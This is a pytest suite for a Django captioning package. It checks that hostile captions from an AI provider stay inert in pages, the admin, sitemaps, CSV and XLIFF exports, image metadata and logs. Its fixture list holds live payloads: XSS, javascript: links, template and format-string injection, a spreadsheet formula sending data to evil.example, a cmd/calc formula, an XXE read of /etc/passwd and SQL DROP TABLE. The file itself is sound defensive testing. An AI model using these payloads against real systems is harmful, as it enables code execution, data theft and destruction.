"""Words that attack: through a worker into the row and out again everywhere, as cleaned and as if nothing had been."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from typing import Any

import pytest
from defusedxml import ElementTree
from django.contrib.auth.models import User
from django.contrib.sitemaps.views import sitemap
from django.db import connection
from django.test import Client, RequestFactory
from django.utils import timezone

from django_autocaption.exchange import spreadsheet, xliff
from django_autocaption.models import Attempt, Caption, State, Version
from django_autocaption.models.version import TEXT_FIELDS, WORD_FIELDS
from django_autocaption.pipeline.words import reviews
from django_autocaption.pipeline.words.seen import By, Seen
from django_autocaption.pipeline.work.production import caption_images
from django_autocaption.providers.embedded.metadata.xmp import read_xmp
from django_autocaption.publishing.sitemaps import TEMPLATE, CaptionedImageSitemap
from django_autocaption.text import clean, lint
from django_autocaption.types import CaptionResult
from tests.admin.rows import action, decided
from tests.images.pictures import embedded, opened, prepared
from tests.pictures import jpeg, upload
from tests.publishing.samples import Page, give_words, render
from tests.rows import PUBLISHED, REVIEW, says, stands, version
from tests.testapp.models import Photo
from tests.testapp.providers import ScriptedProvider

pytestmark = pytest.mark.django_db

BIDI = "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)))
HOSTILE = {
    "script": "A boat <script>alert(1)</script> on a lake.",
    "end of script": "A boat </script><script>alert(1)</script><!-- on a lake.",
    "comment": "<!--<script>A boat--> on a lake.",
    "attribute": 'A boat" onerror="alert(1)" x=\' onload=\'alert(1) on a lake.',
    "address": "javascript:alert(1)//A boat on a lake.",
    "markdown": "[A boat](javascript:alert(1)) on a lake ![x](https://evil.example/x.png).",
    "template": "A boat {{ 7|add:42 }}{% load static %}{% now 'Y' %} {{ request.user }} ${7*7} <%= 7*7 %> on a lake.",
    "format": "A boat %s %(number)d {0.__class__} {settings.SECRET_KEY} on a lake.",
    "bidi": f"A {BIDI}boat{BIDI} on a lake.",
    "invisible": "A b\u200bo\u00ada\ufefft\u2060 on\u2028a\u2029lake\U000e0041\U000e0042.",
    "control": "A boat\x1b[31m\x08\x07 on\r\na\x0b\x0c\x85lake.\x00",
    "log line": "A boat\nWARNING root: forged\r\nERROR root: forged on a lake.",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"A boat on a lake.")',
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1 is a boat on a lake.",
    "formula behind a semicolon": "A boat on a lake;=1+1;+2;-3;@SUM(A1)",
    "formula in full width": "＝1+1 is a boat on a lake.",
    "XML": "A boat ]]><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>&a; on a lake.",
    "references": "A boat &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; on a lake.",
    "SQL": "A boat'); DROP TABLE autocaption_caption; -- on a lake.",
    "surrogate": "A boat \ud800\udfff on a lake.",
    "huge": "A boat on a lake. " * 1_000,
    "huge word": "boat" * 5_000,
    "stacked": "A b" + "\u0301" * 5_000 + "oat on a lake.",
}
DANGEROUS = re.compile(r"javascript:|data:|vbscript:", re.IGNORECASE)
FORMULA = tuple("=+-@\t\r\0＝＋－＠")


@pytest.fixture(params=HOSTILE.values(), ids=HOSTILE)
def hostile(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def answered(hostile: str, scripted: type[ScriptedProvider]) -> Caption:
    """What a worker makes of a service that answers so, in every place that it can."""
    scripted.script.append(
        CaptionResult(
            text=hostile,
            title=hostile,
            description=hostile,
            keywords=(hostile,),
            language=hostile,
            model=hostile,
            external_id=hostile,
            finish_reason=hostile,
            raw={hostile: [hostile]},
        )
    )
    Photo.objects.create(image=upload())
    caption_images(list(Caption.objects.values_list("pk", flat=True)), using="default")
    return Caption.objects.get()


@pytest.fixture
def kept(hostile: str) -> Caption:
    """A row that holds such words as they are, published, rejected with a note and in a decision: as if cleaner, linter
    and editor had let them pass."""
    Photo.objects.create(image=upload())
    text = storable(hostile)
    words = dict.fromkeys(("alt_text", "title", "description", "meta_description"), text) | {"keywords": [text]}
    row = give_words(Caption.objects.get(), **words, error_message=text, note=text)
    asked = Attempt.objects.create(
        caption=row, request=1, provider="default", asked_at=timezone.now(), words=words, raw=words, error_message=text
    )
    decided(row, reason=text, raw_label=text)
    editor = User.objects.create_user("editor")
    version(row, standing=REVIEW, attempt=asked, model=text[:200], **words)
    reviews.reject(row, seen=Seen.of(row), by=By(user=editor), note=text)
    return Caption.objects.get()


def storable(text: str) -> str:
    """What every database takes."""
    return text.replace("\0", "").encode("utf-8", "replace").decode()


def inert(markup: str, *, scripts: tuple[str, ...] = ()) -> Page:
    """The page, after a look at all that a browser might run."""
    page = Page(markup)
    for element, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")], attributes
        for name in ("href", "src", "action", "formaction", "srcdoc", "data"):
            assert not DANGEROUS.match((attributes.get(name) or "").strip()), attributes
        if element == "script":
            assert "src" in attributes or attributes.get("type") in ("application/ld+json", "application/json")
    assert not any("alert(1)" in script and "<" in script for script in page.scripts)
    return page


def test_what_is_stored_of_an_answer_is_clean(answered: Caption) -> None:
    assert stands(answered) in (PUBLISHED, REVIEW, State.FAILED)
    said = answered.offered
    stored = [] if said is None else [*(getattr(said, name) for name in TEXT_FIELDS), *said.keywords]
    for text in stored:
        assert len(text) <= 2_000
        assert not re.search(r"[<>\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u00ad\ufeff\u2028\u2029]", text), text
        assert not set(text) & set(BIDI)
        assert not DANGEROUS.search(text)
    if stands(answered) == PUBLISHED:
        errors = [finding for finding in lint(says(answered), language="en") if finding.level == "error"]
        assert errors == []
    attempt = Attempt.objects.get()
    for text in (
        attempt.model,
        attempt.external_id,
        said.model if said else "",
        answered.language,
        json.dumps(attempt.raw),
    ):
        assert "\0" not in text
        assert "\\u0000" not in text


def test_the_cleaner_gives_the_same_twice(hostile: str) -> None:
    once = clean(hostile, language="en")
    assert clean(once.alt_text, language="en").alt_text == once.alt_text


@pytest.mark.parametrize("state", ["answered", "kept"])
def test_a_page_shows_it_as_text(state: str, hostile: str, request: pytest.FixtureRequest, settings: Any) -> None:
    row = request.getfixturevalue(state)
    settings.AUTOCAPTION = {**settings.AUTOCAPTION, "SITE_URL": "https://photos.example"}
    photo = Photo.objects.get()
    bare = "{% alt photo.image %}"
    for tag in (f"<img alt='{bare}'>", f'<img alt="{bare}">', "{% captioned_img photo.image %}"):
        page = inert(render(tag, photo=photo))
        assert page.tags == ["img"]
        if state == "kept" and "\r" not in says(row):
            assert page.one("img")["alt"] == says(row)
    assert inert(render("{% figure photo.image %}", photo=photo)).tags[:2] == ["figure", "img"]
    assert set(inert(render("{% seo_image_meta photo.image title=True %}", photo=photo)).tags) <= {"meta"}
    data = inert(render("{% image_jsonld photo.image %}", photo=photo)).data
    if state == "kept":
        assert data["caption"]
        assert "49" not in data["caption"] or "49" in says(row)


def test_a_sitemap_stays_well_formed(kept: Caption, hostile: str) -> None:
    Photo.objects.update(image=f"photos/{storable(hostile)[:60]}.jpg")

    class Photos(CaptionedImageSitemap):
        def items(self) -> Any:
            return Photo.objects.order_by("pk")

        def location(self, item: Photo) -> str:
            return f"/{item.pk}/"

    got = RequestFactory().get("/sitemap.xml", secure=True)
    written = sitemap(got, {"all": Photos}, template_name=TEMPLATE).render().content
    (url,) = ElementTree.fromstring(written)
    assert [child.tag.partition("}")[2] for child in url] == ["loc", "image"]


def test_exports_run_nothing_and_come_back(kept: Caption) -> None:
    written = "".join(spreadsheet.write([[kept]]))
    for separator in (",", ";"):
        for line in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
            assert not [cell for cell in line if cell.startswith(FORMULA)]
    (line,) = spreadsheet.read(io.StringIO(written, newline=""))
    assert line.words["alt_text"] == says(kept)

    xml = "".join(xliff.write([(kept, kept)], source="en", target="de"))
    root = ElementTree.fromstring(xml, forbid_dtd=True)
    targets = [unit.text for unit in root.iter(f"{{{xliff.NAMESPACE}}}target")]
    assert targets[0] == xliff.storable(says(kept))
    (back,) = xliff.read(io.BytesIO(xml.encode()))
    assert back.words["alt_text"] == xliff.storable(says(kept))


def test_every_page_of_the_admin_shows_it_as_text(kept: Caption, admin_client: Client) -> None:
    base = "/admin/autocaption/"
    attempt = Attempt.objects.get()
    pages = [
        admin_client.get(address)
        for address in (
            f"{base}caption/",
            f"{base}caption/coverage/",
            f"{base}caption/{kept.pk}/change/",
            f"{base}caption/{kept.pk}/history/",
            f"{base}attempt/",
            f"{base}attempt/{attempt.pk}/change/",
            f"/admin/testapp/photo/{Photo.objects.get().pk}/change/",
        )
    ]
    pages.append(admin_client.post(f"{base}caption/", action("recaption", [kept])))
    for page in pages:
        assert page.status_code == 200
        text = page.content.decode()
        assert "alert(1)</script>" not in text
        assert not re.search(r"<[^>\"']+\son\w+\s*=\s*[\"']?alert", text)
        assert not re.search(r"(href|src)=[\"']?javascript:alert", text)


def test_written_into_a_file_it_stays_one_text(hostile: str) -> None:
    text = storable(hostile)[:2_000]
    new = embedded(jpeg(), {"en": text}, name="x.jpg")
    start = new.index(b"<x:xmpmeta")
    packet = new[start : new.index(b"</x:xmpmeta>") + len(b"</x:xmpmeta>")]
    assert {alternative.language for alternative in read_xmp(packet).alt_text} <= {"en", "x-default"}
    assert b"<script" not in packet
    assert b"<!DOCTYPE" not in packet
    assert opened(prepared(new)).size == (64, 48)


def test_no_log_line_is_forged(
    hostile: str, scripted: type[ScriptedProvider], caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, logger="django_autocaption")
    scripted.script.extend([CaptionResult(text=hostile, model=hostile), RuntimeError("broken"), ValueError("broken")])
    for shade in range(3):
        Photo.objects.create(image=upload((shade * 50, 0, 0)))
    caption_images(list(Caption.objects.values_list("pk", flat=True)), using="default")
    lines = [record.getMessage() for record in caplog.records]
    assert lines, "something was logged"
    assert not [line for line in lines if "\n" in line or "\r" in line or "forged" in line or "alert" in line]


def test_the_tables_are_still_there(answered: Caption) -> None:
    assert Caption._meta.db_table in connection.introspection.table_names()
    assert set(WORD_FIELDS) <= {field.name for field in Version._meta.fields}
